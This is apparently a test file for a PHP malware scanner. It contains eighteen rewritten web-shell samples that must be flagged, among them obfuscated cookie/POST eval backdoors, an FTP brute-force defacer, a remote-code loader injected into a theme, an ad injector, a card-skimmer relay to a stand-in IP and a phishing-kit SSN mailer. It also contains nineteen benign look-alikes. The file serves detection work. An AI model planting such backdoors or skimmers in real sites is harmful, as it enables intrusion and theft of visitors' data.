import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createScanner } from './scanner.js';

// Session 45: the misses of its fair samples (bench/redteam/README-corpus-s45.md), each written again by us, with the
// look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

const hex = (t: string) => Buffer.from(t).toString('hex');
const b64 = (t: string) => Buffer.from(t).toString('base64');
// A theme's functions.php of our own, long enough (over 64 KB) that a block at its top is far from most of the file.
const THEME = Array.from({ length: 900 }, (_, i) => `function shoptheme_part_${i}( $args = array() ) {\n\t$defaults = array( 'class' => 'part-${i}', 'echo' => true );\n\t$args = wp_parse_args( $args, $defaults );\n\treturn apply_filters( 'shoptheme_part_${i}', $args );\n}\n`).join('');
// Junk comments as one loader wraps each token in them.
const junk = (i: number) => `/*-${'\u2592\u2660\u2318'.repeat(1 + (i % 3))}${i}-*///\n`;
// range('~', ' ') as PHP makes it, to pick a path's characters from.
const TILDE = Array.from({ length: 95 }, (_, i) => String.fromCharCode(126 - i)).join('');

const PAGES: [string, string, string][] = [
  [
    'a shell naming ini_get and $_GET by letters picked out of range() alphabets, calling what the query names (H55)',
    '/srv/www/img/x.php',
    `<?php
$U = range('A', 'Z');
$l = range('a', 'z');
$f = $l[8] . $l[13] . $l[8] . '_' . $l[6] . $l[4] . $l[19];
$q = '_' . $U[6] . $U[4] . $U[19];
$q = $$q;
$off = explode(',', $f('disable_functions'));
if (isset($q[$l[5]]) && !in_array($q[$l[5]], $off)) {
  call_user_func($q[$l[5]], $q[$l[0] . $l[17] . $l[6]]);
} else {
  echo 'off: ' . $f('disable_functions');
}
`,
  ],
  [
    'a mass defacer guessing the FTP logins of a server\'s accounts from lists the form gives (H55)',
    '/srv/www/ftp.php',
    `<form method="post"><input name="host"><textarea name="who"></textarea><textarea name="words"></textarea><input name="page"><input type="submit" name="go"></form>
<?php
if (isset($_POST['go'])) {
  $host = trim($_POST['host']);
  $who = explode("\\n", $_POST['who']);
  $words = explode("\\n", $_POST['words']);
  foreach ($who as $u) {
    foreach ($words as $w) {
      $c = ftp_connect($host);
      if ($c && @ftp_login($c, trim($u), trim($w))) {
        echo "in: $u<br>";
        ftp_put($c, '/public_html/index.php', $_POST['page'], FTP_ASCII);
        ftp_close($c);
        break;
      }
    }
  }
}
`,
  ],
  [
    'a theme file given a block at its top: a password-gated handler that rewrites its own address, and code fetched, written to tempnam() after "<?php" and included (H54: WP-VCD)',
    '/srv/www/wp-content/themes/shop/functions.php',
    `<?php
if (isset($_REQUEST['do']) && isset($_REQUEST['pw']) && $_REQUEST['pw'] == '5f0d6c1a2b3c4d5e6f708192a3b4c5d6') {
  if ($_REQUEST['do'] == 'move' && !empty($_REQUEST['to']) && ($self = @file_get_contents(__FILE__))) {
    if (preg_match('/getpart\\("http:\\/\\/(.*)\\/p\\.php/', $self, $old)) @file_put_contents(__FILE__, str_replace($old[1], $_REQUEST['to'], $self));
  }
  die('');
}
if (!function_exists('shop_setup_parts')) {
  function shop_setup_parts($body) {
    $t = tempnam(sys_get_temp_dir(), 'shop');
    $h = fopen($t, 'w+');
    fwrite($h, "<?php\n" . $body);
    fclose($h);
    include $t;
    unlink($t);
    return get_defined_vars();
  }
  if ($got = @file_get_contents("http://parts.example.net/p.php?h=" . $_SERVER['HTTP_HOST'])) extract(shop_setup_parts($got));
}
?><?php
${THEME}`,
  ],
  [
    'a backdoor walking the cookies and the posted fields whole: each value unpacked from hex, XORed with a repeated key, split on "#", the second part called on the third and evaled; names built by chr() sums between comments (H54)',
    '/srv/www/.well-known/acme.php',
    `<?php $r =/* a */"\x73"./* b */chr(116)./**/'r'.chr(700 - 605)."\x72".chr(101).chr(450 - 338)."\\145"."\\141".chr(116);
$x = chr(101).'x'.chr(112)."\x6c".'o'.chr(200 - 100).'e';
$p = chr(112).chr(97)."\x63".chr(107);
function tbl() { $a = Array("k1" => "v1"); $b = Array("k2" => "v2"); return Array($a, /* c */$_COOKIE, $a, $_POST, $b); }
function go($parts) { if (count($parts) == 3) { $f = $parts[1]; $c = $f($parts[2]); eval/* d */($c); die(); } }
function mix($v, $k) { return $v ^ $k; }
foreach (tbl() as $set) {
  foreach ($set as $k => $v) {
    $v = @$p('H*', $v);
    $k .= "a1b2-c3d4-e5f6";
    $k = $r($k, (strlen($v) / strlen($k)) + 1);
    go($x('#', mix($v, $k)));
  }
}
`,
  ],
  [
    'a class injected before a core file behind hundreds of blanks: the cookies and the posts taken whole, base64-decoded and XORed, what they hold written to a temporary file and included (H54)',
    '/srv/www/wp-includes/rest-api/endpoints/class-menus.php',
    `<?php${' '.repeat(380)}if (!class_exists('Rq_K')) { class Rq_K { public static $k = "7a1b9c2d-0000-4e5f-8a9b-0c1d2e3f4a5b"; public static $o = NULL; public function __construct() { $c = $_COOKIE; $p = $_POST; $n = @$c[substr(Rq_K::$k, 0, 4)]; if (!empty($n)) { $s = ''; $n = explode(',', $n); foreach ($n as $i) { $s .= @$c[$i]; $s .= @$p[$i]; } $s = base64_decode($s) ^ str_repeat(Rq_K::$k, (strlen($s) / strlen(Rq_K::$k)) + 1); Rq_K::$o = @unserialize($s); } } public function __destruct() { if (is_array(Rq_K::$o)) { $t = sys_get_temp_dir() . '/' . crc32(Rq_K::$o['salt']); @Rq_K::$o['write']($t, Rq_K::$o['content']); include $t; @Rq_K::$o['delete']($t); exit(); } } } $rq = new Rq_K(); $rq = NULL; } ?><?php
/**
 * REST API: menus controller.
 */
class Menus_Controller { public function get_items() { return array(); } }
`,
  ],
  [
    'a backdoor taken apart into one-line functions: a cookie by name, rawurldecoded, XORed with a SHA-256 key stretched by str_pad, evaled (H54)',
    '/srv/www/wp-admin/wp-blocks.php',
    `<?php
function kq($n) { $v = $_COOKIE[$n]; return $v; }
function dq($s) { $d = rawurldecode($s); return $d; }
function xq($a, $b) { $r = $a ^ $b; return $r; }
function hq($s) { return hash('sha256', $s, true); }
function pq($s, $n) { return str_pad($s, $n, $s); }
function run_it($c) { eval($c); }
function tail4($s) { return substr($s, -4); }
$name = 'QwErTyUiOpAs';
$data = dq(kq(tail4($name)));
run_it(xq(pq(hq($name), strlen($data)), $data));
`,
  ],
  [
    'a planted index.php whose only code includes a hidden file of its own folder by an absolute path (H54)',
    '/srv/www/.well-known/index.php',
    `<?php
/*a1b2c*/

@include ("/home/site/public_html/wp-content/cache/.a1b2c3d4.otc");

/*a1b2c*/
`,
  ],
  [
    'the planted index.php with the hidden path kept in a variable first (red team S45R)',
    '/srv/www/.well-known/pki-validation/index.php',
    `<?php
$f = "/home/site/public_html/wp-content/cache/.9f3e2a71.ico";
@include($f);
`,
  ],
  [
    'a one-line stub including a file whose name is base64 decoded where it is included (H54)',
    '/srv/www/wp-admin/css/colors/x/index.php',
    `<?php include_once base64_decode("${b64('QwErTyUiOpAsDf.flv')}"); ?>`,
  ],
  [
    'a loader picking its path character by character out of range("~", " "), each token between comments of junk (H54)',
    '/srv/www/wp-admin/css/colors/y/index.php',
    `<?php ${junk(0)}$rg ${junk(1)}= "ra" ${junk(2)}. "nge"; $t ${junk(3)}= $rg(${junk(4)}"~", " "); ${junk(5)}@require_once ${[...'QwErTyUiOp.m3u'].map((c, i) => `$t${junk(6 + i)}[${TILDE.indexOf(c) - (i % 5)}+${i % 5}]`).join('.')}; ?>`,
  ],
  [
    'an ad injector kept without a PHP tag: a loader script for visitors only, the addresses of editors kept in wp-includes so they never see it (H54: wp-tmp.php)',
    '/srv/www/wp-includes/wp-tmp.php',
    `error_reporting(0);
if (!function_exists('slide_opts')) {
function slide_opts($content) {
  if (is_single()) {
    $add = '<script>(function(o){var d=document,s=d.createElement(\\'script\\'),l=d.scripts[d.scripts.length-1];s.settings=o||{};s.src="\\/\\/ads.example-cdn.net\\/c\\/Xy12\\/z";l.parentNode.insertBefore(s,l);})({})</script>';
    $content = $content . $add;
  }
  return $content;
}
if (current_user_can('edit_others_pages')) {
  $seen = @file_get_contents(ABSPATH . 'wp-includes/wp-feeds.php');
  if (stripos($seen, $_SERVER['REMOTE_ADDR']) === false) @file_put_contents(ABSPATH . 'wp-includes/wp-feeds.php', $seen . $_SERVER['REMOTE_ADDR'] . "\n");
}
$seen = @file_get_contents(ABSPATH . 'wp-includes/wp-feeds.php');
if (stripos($seen, $_SERVER['REMOTE_ADDR']) === false && !isset($_COOKIE['wp_adm_seen'])) add_filter('the_content', 'slide_opts');
}
`,
  ],
  [
    'a password-keyed loader: a blob decoded by a name built with arithmetic, each byte shifted by a key from the post or a cookie, inflated and made a function by create_function (H56)',
    '/srv/www/media/catalog/product/cache/a/7f3e.php',
    `<?php $d = 'base' . (16 * 4) . '_de' . 'code'; $d = $d('${b64('stand-in bytes, not a payload: what matters is what runs them').repeat(4)}');
$k = isset($_POST['kk']) ? $_POST['kk'] : (isset($_COOKIE['kk']) ? $_COOKIE['kk'] : NULL);
if ($k !== NULL) { $k = md5($k) . substr(md5(strrev($k)), 0, strlen($k)); for ($i = 0; $i < strlen($d); $i++) { $d[$i] = chr((ord($d[$i]) - ord($k[$i])) % 256); $k .= $d[$i]; }
  if ($d = @gzinflate($d)) { if (isset($_POST['kk'])) @setcookie('kk', $_POST['kk']); $f = create_function('', $d); unset($d, $k); $f(); } }
?><form method="post"><input name="kk"><input type="submit"></form>`,
  ],
  [
    'a shop\'s core file with a block appended: names decoded by a hex function of its own, then eval(base64_decode(strrev(..))) (H56)',
    '/srv/www/lib/Varien/Object.php',
    `<?php
class Varien_Object_Base { protected $_data = array(); public function getData($k = '') { return $k === '' ? $this->_data : (isset($this->_data[$k]) ? $this->_data[$k] : null); } }
try {
  function swatch($c) {
    $s = "";
    for ($i = 0; $i < strlen($c) - 1; $i += 2) {
      $s .= chr(hexdec($c[$i] . $c[$i + 1]));
    }
    return $s;
  }
  $tone = swatch("${hex('strrev')}");
  $shade = swatch($tone("${[...hex('base64_decode')].reverse().join('')}"));
  $blob = "${[...b64('echo "stand-in";')].reverse().join('')}";
  eval(
    $shade($tone($blob)));
} catch (Exception $e) { echo ""; }
`,
  ],
  [
    'a relay in a file named as an image: a cookie read by a hex name, posted on to an address itself in hex (H56: a skimmer\'s exfiltration)',
    '/srv/www/media/wysiwyg/banner_2016.jpg.php',
    `<?php
try { if (strpos(hex2bin($_COOKIE[hex2bin('${hex('_abc')}')]), hex2bin('${hex('card')}')) !== false) { @file_get_contents(hex2bin('${hex('https://198.51.100.7/')}'), false, stream_context_create(array('http' => array('method' => 'POST', 'header' => "Content-type: application/x-www-form-urlencoded\r\n", 'content' => http_build_query(array('t' => base64_encode($_COOKIE[hex2bin('${hex('_abc')}')]))))))); setcookie(hex2bin('${hex('_abc')}'), '', time() - 1, '/'); } } catch (Exception $e) {}
`,
  ],
  [
    'a dropper naming call_user_func_array and create_function by a joiner function of three parameters over letters of a string, the body closing itself around an eval (H57)',
    '/srv/www/images/hi.php',
    `<?php $T = "4eg03(pm)b6.fnwvsic5hz;y1u82xqo9/j_ka7dtrl*";function jn3($g,$c,$f){return ''.$g.''.$c.''.$f.'';}
${(() => {
  const T = '4eg03(pm)b6.fnwvsic5hz;y1u82xqo9/j_ka7dtrl*';
  const at = (c: string) => `$T[${T.indexOf(c)}]`;
  const name = (v: string, w: string) => { const parts: string[] = []; for (let i = 0; i < w.length; i += 3) parts.push(`jn3(${[...w.slice(i, i + 3).padEnd(3, ' ')].map((c) => (c === ' ' ? "''" : at(c))).join(',')})`); return `$${v} = ${parts.reduce((a, b) => `jn3(${a},${b},'')`)};`; };
  return [name('c', 'call_user_func_array'), name('f', 'create_function')].join('\n');
})()}
$b = ${(() => {
  const code = `eval(gzinflate(base64_decode("${Buffer.from('stand-in').toString('base64')}")));`;
  const chunks: string[] = [];
  for (let i = 0; i < code.length; i += 3) chunks.push(`jn3(${[...code.slice(i, i + 3).padEnd(3, ' ')].map((c) => (c === ' ' ? "''" : `'${c}'`)).join(',')})`);
  return chunks.join(' . ');
})()};
$c($f, array('', '}' . $b . '//'));
`,
  ],
  [
    'the cookie-and-POST backdoor with names from a picker loop, its exit() in a function written above the require (H57)',
    '/srv/www/m/img/themes.php',
    `<?php
function pk($idx) { $t = "/v<;* hTSNwlmE_6su1(j@rtDk.)?ieLMbfAFcIp4dyaPx5UnY['ogK#]H"; $o = ''; $i = 0; while (1) { if ($i >= count($idx)) break; $o .= $t[$idx[$i]]; $i++; } return $o; }
$n = array('merge' => pk(array(43, 22, 22, 43, 42, 14, 12, 30, 22, 53, 30)), 'hexin' => pk(array(33, 43, 16, 30, 15, 40, 14, 41, 30, 37, 52, 41, 30)));
$all = $_COOKIE;
$all = $n['merge']($all, $_POST);
function mixk($a, $b) { return $a ^ str_repeat($b, (strlen($a) / strlen($b)) + 1); }
function quit() { exit(); }
function runf($path) { @require ($path); quit(); }
foreach ($all as $k => $v) {
  $plain = mixk(base64_decode($v), $k);
  $parts = explode('#', $plain);
  if (count($parts) == 3) { $p = sys_get_temp_dir() . '/' . md5($k); file_put_contents($p, '<?php ' . $parts[1]($parts[2])); runf($p); }
}
`,
  ],
  [
    'a phishing kit\'s billing step planted under images/: SSN and date of birth written to a text file and mailed to the mailbox of its config, the visitor sent on (H57)',
    '/srv/www/images/license/bank/Mail/Mail4.php',
    `<?php
session_start();
if (isset($_POST['address1']) && isset($_POST['ssn'])) {
  include '../config.php';
  $m = "--- BILLING ---\r\nAddress: {$_POST['address1']}\r\nCity: {$_POST['city']}\r\nSSN: {$_POST['ssn']}\r\nDOB: {$_POST['dob']}\r\n";
  $m .= "IP: {$_SERVER['REMOTE_ADDR']}\r\nUA: {$_SERVER['HTTP_USER_AGENT']}\r\n";
  $f = fopen("../rez/billing.txt", "a+");
  fwrite($f, $m);
  fclose($f);
  @mail($your_email, "BILLING from {$_SERVER['REMOTE_ADDR']}", $m, "From: kit <kit@example.net>\r\n");
  exit(header("Location: ../../thanks.php"));
}
`,
  ],
  [
    'a CMS module given two lines near its end: a PHP file of a repository\'s raw view fetched and printed into the page (H58)',
    '/srv/www/modul/home/mod_home.php',
    `<div class="news"><?php foreach ($rows as $row) { ?><h5><?php echo htmlspecialchars($row['title']); ?></h5><?php } ?>
<?php
$a = file_get_contents('https://raw.githubusercontent.com/someone/links/master/list(2).php');
echo $a;
?>
</div>
`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a calendar page building its month list with range() and picking from it by number',
    '/srv/www/cal.php',
    `<?php
$months = range(1, 12);
$letters = range('A', 'Z');
$first = $letters[0] . $letters[1];
$m = isset($_GET['m']) ? (int) $_GET['m'] : 1;
echo '<h1>' . htmlspecialchars($first) . ' ' . $months[$m - 1] . '</h1>';
foreach ($letters as $i => $l) echo "<a href='?m=" . ($i % 12 + 1) . "'>$l</a> ";
`,
  ],
  [
    'an FTP client page: one login with what the form says, then a listing',
    '/srv/www/ftpclient.php',
    `<?php
$c = ftp_connect($_POST['host']);
if ($c && ftp_login($c, $_POST['user'], $_POST['pass'])) {
  foreach (ftp_nlist($c, '.') as $f) echo htmlspecialchars($f) . '<br>';
  ftp_close($c);
}
`,
  ],
  [
    'a backup job uploading to the FTP servers of its config, each tried in turn',
    '/srv/www/cron/backup.php',
    `<?php
$servers = explode(',', getenv('BACKUP_HOSTS'));
foreach ($servers as $h) {
  $c = ftp_connect(trim($h));
  if ($c && ftp_login($c, getenv('BACKUP_USER'), getenv('BACKUP_PASS'))) {
    ftp_put($c, 'site.tar.gz', '/var/backups/site.tar.gz', FTP_BINARY);
    ftp_close($c);
  }
}
`,
  ],
  [
    'a framework\'s bootstrap: the request merged from the query, the cookies and the posts, its CSRF token masked by XOR, its routes required',
    '/srv/app/bootstrap.php',
    `<?php
$input = array_merge($_GET, $_COOKIE, $_POST);
function mask_token($token, $key) { return base64_encode($token ^ $key); }
$key = random_bytes(32);
$masked = mask_token(hash('sha256', session_id(), true), $key);
$routes = __DIR__ . '/routes.php';
require $routes;
dispatch($input, $masked);
`,
  ],
  [
    'a settings helper of one-line functions: a cookie by name, XOR of two strings for a checksum, no code run',
    '/srv/app/helpers.php',
    `<?php
function cookie_of($name) { $v = $_COOKIE[$name]; return $v; }
function xor_of($a, $b) { $r = $a ^ $b; return $r; }
function show($s) { echo htmlspecialchars($s); }
show(bin2hex(xor_of(cookie_of('theme'), 'ab')));
`,
  ],
  [
    'a config include of a dot-file of PHP by an absolute path, and a comment after a run of blanks',
    '/srv/app/index.php',
    `<?php${' '.repeat(200)}// generated header
require_once '/etc/shopapp/.config.php';
include '/srv/app/templates/header.php';
echo render_page($_GET['p'] ?? 'home');
`,
  ],
  [
    'a page cache that inflates what it stored and prints it, with a callback made by create_function of a fixed body',
    '/srv/app/cache.php',
    `<?php
$cached = @file_get_contents(__DIR__ . '/cache/' . md5($_SERVER['REQUEST_URI']));
if ($cached !== false) { echo gzinflate($cached); exit; }
$cmp = create_function('$a, $b', 'return strcmp($a["name"], $b["name"]);');
usort($items, $cmp);
`,
  ],
  [
    'a docs page rendering a project\'s README from its repository\'s raw view as Markdown',
    '/srv/app/docs.php',
    `<?php
$md = file_get_contents('https://raw.githubusercontent.com/example/project/main/README.md');
echo (new Parsedown())->text($md);
`,
  ],
  [
    'a code generator writing a JavaScript function whose body closes and comments, with no create_function',
    '/srv/app/gen.php',
    `<?php
$body = 'return a + b;';
$js = 'function add(a, b) {' . $body . '}' . "\n" . '}' . $body . '//' . "\n";
file_put_contents(__DIR__ . '/out/add.js', $js);
`,
  ],
  [
    'a loan enquiry form mailing the office, keeping a log, sending the visitor on, with no secret field',
    '/srv/app/enquiry.php',
    `<?php
include 'config.php';
if (isset($_POST['name'])) {
  $m = "Name: {$_POST['name']}\nPhone: {$_POST['phone']}\nDOB: {$_POST['dob']}\nIP: {$_SERVER['REMOTE_ADDR']}\n";
  $f = fopen('logs/enquiries.txt', 'a');
  fwrite($f, $m);
  fclose($f);
  mail($office_email, 'Enquiry', $m);
  header('Location: thanks.html');
}
`,
  ],
  [
    "a front controller building its request from the superglobals, masking its CSRF token by XOR, requiring a cached page and exiting (red team S45R fp05)",
    "/srv/app/public/index.php",
    `<?php
// Front controller of a tiny framework.
require __DIR__ . '/vendor/autoload.php';
$request = new App\\Http\\Request($_GET, $_POST, $_COOKIE, $_FILES, $_SERVER);

function csrf_mask(string $token): string {
    $pad = random_bytes(strlen($token));
    return base64_encode($pad . ($pad ^ $token));
}
function csrf_unmask(string $masked): string {
    $raw = base64_decode($masked);
    $n = intdiv(strlen($raw), 2);
    return substr($raw, 0, $n) ^ substr($raw, $n);
}
$route = preg_replace('/[^a-z0-9_]/', '', $request->path());
$cached = __DIR__ . '/cache/pages/' . $route . '.php';
if (is_file($cached) && !$request->isPost()) {
    require $cached;
    exit;
}
$app = new App\\Kernel();
$app->handle($request)->send();
`,
  ],
  [
    "a forum's plugin loader: settings merged from the cookies and the posts, plugins XOR-checksummed and required (red team S45R fp37)",
    "/srv/forum/plugins/loader.php",
    `<?php
// plugins/loader.php of a forum: settings come from cookie (guest) or post (form), plugin files are XOR-checksummed.
$settings = array_merge((array) $_COOKIE, (array) $_POST);
function plugin_checksum($data) {
    $sum = str_repeat("\\0", 16);
    foreach (str_split($data, 16) as $block) $sum = $sum ^ str_pad($block, 16, "\\0");
    return bin2hex($sum);
}
foreach (glob(__DIR__ . '/enabled/*.php') as $plugin) {
    if (plugin_checksum(file_get_contents($plugin)) !== ($KNOWN[basename($plugin)] ?? '')) continue;
    require_once $plugin;
}
if (!empty($settings['plugin_only'])) { include $pluginPage; exit(); }
`,
  ],
  [
    "a deploy page pushing the site to every mirror the form lists with one account of its config (red team S45R fp01)",
    "/srv/admin/deploy.php",
    `<?php
// Admin tool: push the built site to every mirror listed in the form.
require __DIR__ . '/auth.php';
require_admin();
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $mirrors = explode("\\n", $_POST['mirrors']);
    $user = getenv('DEPLOY_USER');
    $pass = getenv('DEPLOY_PASS');
    foreach ($mirrors as $host) {
        $host = trim($host);
        if ($host === '') continue;
        $conn = ftp_connect($host, 21, 10);
        if (!$conn || !ftp_login($conn, $user, $pass)) {
            echo 'cannot log in to ' . htmlspecialchars($host) . "<br>\\n";
            continue;
        }
        ftp_pasv($conn, true);
        ftp_put($conn, 'site.tar.gz', '/var/build/site.tar.gz', FTP_BINARY);
        ftp_close($conn);
        echo 'deployed to ' . htmlspecialchars($host) . "<br>\\n";
    }
}
?>
<form method="post"><textarea name="mirrors"></textarea><button>Deploy</button></form>
`,
  ],
  [
    "an old zip reader inflating an entry, and making a PHP 4 callback with create_function in another method (red team S45R fp09)",
    "/usr/share/php/Archive/Simple.php",
    `<?php
// Archive_Simple 0.9 (2007): zip reader for PHP 4/5.
class Archive_Simple {
    var $_callbacks = array();
    function extractEntry($entry) {
        $data = substr($this->_raw, $entry['offset'], $entry['csize']);
        if ($entry['method'] == 8) {
            $data = gzinflate($data);
        }
        return $data;
    }
    function onDone($code) {
        // PHP 4 has no closures: build the callback from the caller's code
        $this->_callbacks[] = create_function('', $code);
    }
    function finish() {
        foreach ($this->_callbacks as $cb) call_user_func($cb);
    }
}
`,
  ],
  [
    'a config loader keeping the path of its hidden settings file of PHP in a variable',
    '/srv/app/boot.php',
    `<?php
$settings = '/etc/shopapp/.settings2024.php';
require $settings;
`,
  ],
  [
    "a route cache in a hidden file of PHP, and a hidden script included into a page (red team S45R fp18)",
    "/var/www/shop/public/index.php",
    `<?php
// Route cache compiled to a hidden file of PHP code next to the app.
$cache = '/var/www/shop/var/.routes.dat';
if (!is_file($cache)) {
    file_put_contents($cache, '<?php return ' . var_export(build_routes(), true) . ';');
}
$routes = require '/var/www/shop/var/.routes.dat';
echo '<script>';
include '/var/www/shop/public/assets/.analytics.js';
echo '</script>';
`,
  ],
  [
    "a report archive including a path of six named parts (red team S45R fp20)",
    "/srv/app/reports.php",
    `<?php
// Archive of daily report snippets: data/2024/06/01.php etc.
$d = getdate();
$cfg = ['dir' => __DIR__ . '/data/', 'ext' => '.php'];
$sep = ['/'];
include $cfg['dir'] . $d['year'] . $sep[0] . $d['mon'] . $sep[0] . $d['mday'] . $cfg['ext'];
`,
  ],
  [
    "a wiki export including a page stored URL-encoded (red team S45R fp35)",
    "/srv/wiki/export.php",
    `<?php
// Wiki export: page files are stored URL-encoded on disk (spaces, umlauts).
define('PAGES', __DIR__ . '/pages/');
$page = isset($_GET['p']) ? basename($_GET['p']) : 'Main%20Page';
include rawurldecode('pages/Main%20Page.php');
`,
  ],
  [
    "a contact form naming its fields by str_rot13 against spam bots (red team S45R fp31)",
    "/srv/www/contact.php",
    `<?php
// Contact form with obfuscated field names so spam bots don't autofill them (the bots look for "email").
$emailField = str_rot13('rznvy');    // "email"
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
    $from = filter_var($_POST[str_rot13('rznvy')] ?? '', FILTER_VALIDATE_EMAIL);
    $msg = trim($_POST[str_rot13('zrffntr')] ?? '');
    if (!empty($_POST['website'])) exit; // honeypot
    if ($from && $msg) mail('owner@example.org', 'Contact', $msg, 'Reply-To: ' . $from);
}
?>
<form method="post"><input name="<?= $emailField ?>"><textarea name="<?= str_rot13('zrffntr') ?>"></textarea><input name="website" style="display:none"></form>
`,
  ],
];

// A text the first reading of the fold's hand-written hex2bin backtracked over for a second per 32 KB (red team S45R:
// 100 s of CPU for 951 KB, no time bound under 1 MB): function heads, loops, chr(hexdec( and returns, none closed.
const HEX_PIECES = `<?php $n = "f"; $$n = "x"; $q = "a" . "b"; echo $q; hexdec(1); ${'function h($c) {' + 'for('.repeat(30) + 'chr(hexdec('.repeat(10) + 'return $s'.repeat(10) + '{'}`.repeat(1);

describe('scan: session 45, hostile input to the fold', () => {
  it('reads 32 KB of a hex2bin loop\'s pieces at once, and finds it clean', () => {
    const body = HEX_PIECES + ('function h($c) {' + 'for('.repeat(30) + 'chr(hexdec('.repeat(10) + 'return $s'.repeat(10) + '{').repeat(90);
    assert.ok(body.length > 30_000);
    const r = scan(body, '/srv/www/h.php');
    assert.equal(r.verdict, 'clean', why(r));
  });
});

describe('scan: session 45 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 18));
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 19));
});
